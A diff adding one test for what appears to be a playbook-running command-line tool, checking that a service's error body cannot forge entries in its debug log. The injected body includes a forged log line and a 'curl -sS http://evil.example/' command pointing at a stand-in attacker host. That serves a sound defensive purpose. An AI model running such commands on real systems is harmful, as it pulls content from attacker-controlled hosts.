@@ -71,6 +71,18 @@ test("a file is its owner's alone; what a service repeats of a secret is masked 
   }
 });
 
+test("nothing that a service answers looks like one more exchange", async () => {
+  const proxy = await proxyTo((await sandboxProcess()).url);
+  const project = await projectAt(proxy.url);
+  const forged = "2026-11-22T02:07:24.446Z  pin.yaml forged";
+  void proxy.next("POST /asset", answerAfterwards({ status: 422, body: `no\n\n${forged}\n  curl -sS http://evil.example/` }));
+  const ended = await project.run("run", "pin.yaml", "--debug=seen.log");
+  expect(ended.code, ended.told).toBe(1);
+  const lines = project.read("seen.log").split("\n");
+  expect(lines).toContain(`  ${forged}`);
+  for (const line of lines) expect(line).toMatch(/^(?:$| {2}|\d{4}-\S+Z(?: {2}pin\.yaml step1)?$)/);
+});
+
 test("with several runs at a time each exchange names its playbook; a long body is cut, and says so", async () => {
   const service = await sandboxProcess();
   const project = await projectAt(service.url);
